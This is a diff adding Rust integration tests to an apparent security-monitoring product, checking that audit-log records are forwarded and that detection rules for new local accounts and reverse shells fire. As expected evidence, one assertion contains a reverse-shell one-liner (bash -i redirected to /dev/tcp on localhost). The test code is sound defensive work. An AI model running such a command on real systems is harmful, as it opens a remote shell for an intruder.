@@ -289,6 +289,83 @@ async fn agent_lines_run_through_the_same_rules_once() {
     assert_eq!(brute.count, 1);
 }
 
+/// The real agent process reads its host's audit log (real auditd records,
+/// moved to the last hour) and the SOC's audit-log rules fire on them.
+#[tokio::test]
+async fn the_agent_forwards_the_audit_log_and_its_rules_fire() {
+    let Some(bin) = common::agent_binary() else {
+        assert_ne!(std::env::var("CI").as_deref(), Ok("true"), "leitstand-agent not built next to the tests");
+        eprintln!("SKIPPED: build leitstand-agent first (cargo build -p leitstand-agent)");
+        return;
+    };
+    let app = TestApp::spawn().await;
+    let w = world(&app).await;
+    set_package(&app, w.a, "1").await;
+    let admin = app.services.cli_actor().await.expect("admin");
+    let token = app.services.create_enroll_token(&admin, w.a).await.expect("token").token;
+    let (state, root) = (tempfile::tempdir().expect("state"), tempfile::tempdir().expect("root"));
+    let fixture = format!("{}/../detect/tests/fixtures/lines/auditd_debian12.log", env!("CARGO_MANIFEST_DIR"));
+    let captured = std::fs::read_to_string(fixture).expect("fixture");
+    // Captured at 1795524975 (last record); the agent's first run looks back 24 h.
+    let shift = jiff::Timestamp::now().as_second() - 3600 - 1_795_524_975;
+    let mut log = String::new();
+    for line in captured.split_inclusive('\n') {
+        let (head, rest) = line.split_once("msg=audit(").expect("record");
+        let (secs, rest) = rest.split_once('.').expect("time");
+        let secs: i64 = secs.parse().expect("seconds");
+        log.push_str(&format!("{head}msg=audit({}.{rest}", secs + shift));
+    }
+    std::fs::create_dir_all(root.path().join("var/log/audit")).expect("dir");
+    std::fs::write(root.path().join("var/log/audit/audit.log"), log).expect("audit.log");
+    let config = state.path().join("agent.toml");
+    std::fs::write(&config, "interval_secs = 5\n").expect("config");
+    let run = |args: Vec<String>| common::run_agent(&bin, &config, state.path(), args);
+    let out = run(vec!["enroll".into(), "--server".into(), app.url.clone(), "--token".into(), token]).await;
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let root_arg = root.path().display().to_string();
+    let out = run(vec!["--root".into(), root_arg, "run".into(), "--rounds".into(), "1".into()]).await;
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+
+    let stored = events(&app, w.a).await;
+    let audit: Vec<_> = stored.iter().filter(|e| e.dataset == "auditd").collect();
+    assert_eq!(audit.len(), captured.lines().count(), "every record, once");
+    assert!(audit.iter().all(|e| e.host_name.is_some()));
+    let alerts = soc_alerts(&app, w.a).await;
+    let details: Vec<&str> = alerts.iter().map(|a| a.detail.as_str()).collect();
+    for title in ["Local account created (audit log)", "Shell wired to a network socket (reverse shell)"] {
+        assert!(details.iter().any(|d| d.contains(title)), "{title}: {details:?}");
+    }
+    assert!(alerts.iter().all(|a| a.host.is_some()), "{alerts:?}");
+    let shell = alerts.iter().find(|a| a.detail.contains("reverse shell")).expect("alert");
+    let q = leitstand_store::SocEventQuery { alert: Some(shell.id), limit: 10, ..Default::default() };
+    let evidence = app.store.soc_events(&TenantScope::one(w.a), &q).await.expect("evidence");
+    assert!(evidence[0].event.contains("bash -i >& /dev/tcp/127.0.0.1/9"), "decoded: {}", evidence[0].event);
+    assert!(soc_alerts(&app, w.b).await.is_empty());
+}
+
+#[tokio::test]
+async fn audit_records_out_of_bounds_are_refused_with_a_reason() {
+    let app = TestApp::spawn().await;
+    let w = world(&app).await;
+    let admin = app.services.cli_actor().await.expect("admin");
+    let (host_id, _) = app.host(&admin, w.a, "a-web-03").await;
+    let host = app.store.host_for_agent(leitstand_domain::HostId(host_id)).await.expect("host");
+    let batch = |lines: Vec<String>| {
+        let record = leitstand_proto::Record::Audit { lines };
+        leitstand_proto::Batch::new(vec![leitstand_proto::Sequenced { seq: 1, record }])
+    };
+    let long = format!("type=EXECVE msg=audit(1795524970.000:1): argc=1 a0=\"{}\"", "x".repeat(9000));
+    let err = app.services.ingest_batch(&host, batch(vec![long]), None).await.expect_err("too long");
+    assert!(err.to_string().contains("record 1: an audit line of"), "{err}");
+    let many = vec!["type=X msg=audit(1.0:1): a=1".to_string(); 5001];
+    let err = app.services.ingest_batch(&host, batch(many), None).await.expect_err("too many");
+    assert!(err.to_string().contains("5001 audit lines"), "{err}");
+    // Without a SOC package the lines are taken and not kept.
+    let line = "type=ADD_USER msg=audit(1795524923.636:8): pid=1 uid=0 msg='op=adding user id=1001 res=success'";
+    app.services.ingest_batch(&host, batch(vec![line.into()]), None).await.expect("taken");
+    assert!(events(&app, w.a).await.is_empty());
+}
+
 #[tokio::test]
 async fn the_alert_file_lists_soc_alerts_by_criticality_as_csv_and_json() {
     let app = TestApp::spawn().await;
